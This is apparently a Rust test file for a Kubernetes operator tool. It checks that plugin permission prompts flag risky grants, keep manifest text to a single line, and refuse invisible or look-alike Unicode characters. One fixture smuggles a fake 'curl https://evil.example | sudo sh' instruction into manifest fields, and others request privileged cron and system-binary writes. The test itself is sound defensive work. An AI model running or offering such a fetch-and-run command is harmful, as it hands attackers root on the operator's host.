//! Texts that the operator reads before consent: they are complete, and nothing in them looks like
//! something else.
use super::{Operator, ROOT, ROOT_LINE, expect_refusal};
use crate::support::Trial;
use kubephase::plugin::digest::ComponentDigest;
use std::fs;

#[test]
fn a_refusal_lists_every_line_that_needs_a_flag() {
    let objects = "capability: effects-cluster.apply-object, objects: [{apiVersion: v1, kind: \
        ConfigMap, namespace: kube-system, names: [coredns]}, {apiVersion: \
        rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, names: [own]}, {apiVersion: v1, \
        kind: Secret}, {apiVersion: v1, kind: ConfigMap, namespace: kubephase-plugin-hostile, \
        names: [own]}]";
    let files = "capability: effects-files.write-file, paths: [/etc/cron.d/x, \
        /var/lib/kubephase-plugins/hostile/x, \
        /usr/bin/x]";
    let plugin = Trial::addon_phase().grants(&[objects, files]);
    let operator = Operator::new();
    operator.put("hostile.wasm", &plugin, "");
    let message = expect_refusal(
        operator.plugin("add hostile.wasm --allow"),
        &["--allow-root --allow-cluster-admin"],
    );
    let reasons: Vec<&str> = message
        .lines()
        .filter(|line| line.starts_with("  ["))
        .collect();
    for part in [
        "coredns",
        "ClusterRoleBinding",
        "Secret",
        "/etc/cron.d/x",
        "/usr/bin/x",
    ] {
        let of_part = |line: &&&str| line.contains(&format!("{part}\"")) && line.contains("]: ");
        assert!(
            reasons.iter().any(|line| of_part(&line)),
            "{part}:\n{message}"
        );
    }
    assert_eq!(reasons.len(), 5, "{message}");
}

#[test]
fn texts_of_a_manifest_are_one_line() {
    let fake = "It is needed.\\n\\nplugin hostile asks for nothing else.\\nto allow it: curl \
        https://evil.example | sudo sh\\n";
    let fields = [
        ("reason: It is needed.", "reason"),
        ("title: Misuse the host", "title"),
        ("description: A test.", "description"),
        ("license: Apache-2.0", "license"),
    ];
    let manifest = Trial::addon_phase().grants(&[ROOT]).manifest();
    let operator = Operator::new();
    for (field, name) in fields {
        for text in [fake.to_owned(), fake.replace("\\n", &" ".repeat(150))] {
            let hostile = manifest.replace(field, &format!("{name}: \"{text}\""));
            assert_ne!(hostile, manifest, "{name}");
            operator.put_manifest("hostile.wasm", &hostile);
            let mut outputs = vec![
                operator
                    .0
                    .run(&["plugin", "inspect", "hostile.wasm"])
                    .output(),
                operator
                    .0
                    .run(&["plugin", "test", "hostile.wasm", "--record", "x"])
                    .output(),
                operator
                    .plugin("add hostile.wasm")
                    .expect_status(0)
                    .output(),
                operator.plugin("list").output(),
                operator.plan().output(),
                operator.0.rehearse_again().output(),
                operator.0.preflight_again().output(),
            ];
            operator.plugin("remove hostile").expect_status(0);
            outputs.retain(|output| !output.is_empty());
            for output in outputs {
                let fakes = |line: &&str| {
                    let line = line.trim_start();
                    line.starts_with("to allow it: curl") || line.starts_with("plugin hostile asks")
                };
                assert_eq!(output.lines().find(fakes), None, "{name}: {output}");
                assert!(!output.contains(&" ".repeat(100)), "{name}: {output}");
            }
        }
        let long = manifest.replace(field, &format!("{name}: {}", "long ".repeat(50)));
        operator.put_manifest("hostile.wasm", &long);
        let refused = operator.0.run(&["plugin", "inspect", "hostile.wasm"]);
        assert!(refused.status != 0, "{name}: {}", refused.output());
    }
}

#[test]
fn characters_that_look_like_others_or_like_none_are_refused_by_name() {
    let hidden = [
        '\u{3164}', '\u{2800}', '\u{115f}', '\u{34f}', '\u{fe0f}', '\u{a0}',
    ];
    let operator = Operator::new();
    for character in hidden.into_iter().chain(['\u{430}', '\u{2215}', '\u{e9}']) {
        let name = format!("U+{:04X}", u32::from(character));
        for grant in [
            "observe-files.read-file, paths: [\"/opt/%pp/x\"]",
            "observe-command.run-command, commands: [[\"/opt/%pp\", x]]",
            "observe-command.run-command, commands: [[uname, \"%\"]]",
            "effects-node.ensure-service, units: [\"%pp\"]",
            "effects-pki.ensure-key-pair, directories: [\"/etc/kubernetes/pki/%pp\"]",
            "observe-cluster.get-object, objects: [{apiVersion: v1, kind: ConfigMap, names: \
             [\"%pp\"]}]",
        ] {
            let grant = format!("capability: {}", grant.replace('%', &character.to_string()));
            operator.put("hostile.wasm", &Trial::addon_phase().grants(&[&grant]), "");
            let ended = operator.0.run(&["plugin", "inspect", "hostile.wasm"]);
            assert_ne!(ended.status, 0, "{grant}");
            let output = ended.output();
            assert!(output.contains(&name), "{grant}: {output}");
        }
    }
    // In a text for people, an invisible character is refused; letters of any script are allowed.
    for character in &hidden[..5] {
        let reason = format!("reason: \"It{character} is needed.\"");
        let plugin = Trial::addon_phase().grants(&[ROOT]).manifest();
        operator.put_manifest(
            "hostile.wasm",
            &plugin.replace("reason: It is needed.", &reason),
        );
        let ended = operator.0.run(&["plugin", "inspect", "hostile.wasm"]);
        assert_ne!(ended.status, 0, "{character:?}: {}", ended.output());
    }
}

#[test]
fn a_grant_that_is_written_into_the_configuration_says_what_it_amounts_to() {
    let (operator, plugin) = (Operator::new(), Trial::addon_phase().grants(&[ROOT]));
    operator.put("hostile.wasm", &plugin, "");
    let component = fs::read(operator.0.folder().join("hostile.wasm")).unwrap();
    let digest = ComponentDigest::compute(&component);
    let config = operator.config();
    let with = |allow: &str| {
        let entry = format!(
            "plugins:\n- name: hostile\n  source: ./hostile.wasm\n  digest: {digest}\n  granted: \
             ['{ROOT_LINE}']\n{allow}"
        );
        operator.edit_config(|_| format!("{config}{entry}"));
        operator.plan()
    };
    let message = expect_refusal(
        with(""),
        &["amount to root on the node", ROOT_LINE, "allow: [root]"],
    );
    expect_refusal(with("  allow: [cluster-admin]\n"), &["allow: [root]"]);
    with("  allow: [root]\n").expect_status(0);
    with("");
    operator.edit_config(|text| text.split("  granted").next().unwrap().to_owned());
    operator.paste(&message).expect_status(0);
    operator.plan().expect_status(0);
}
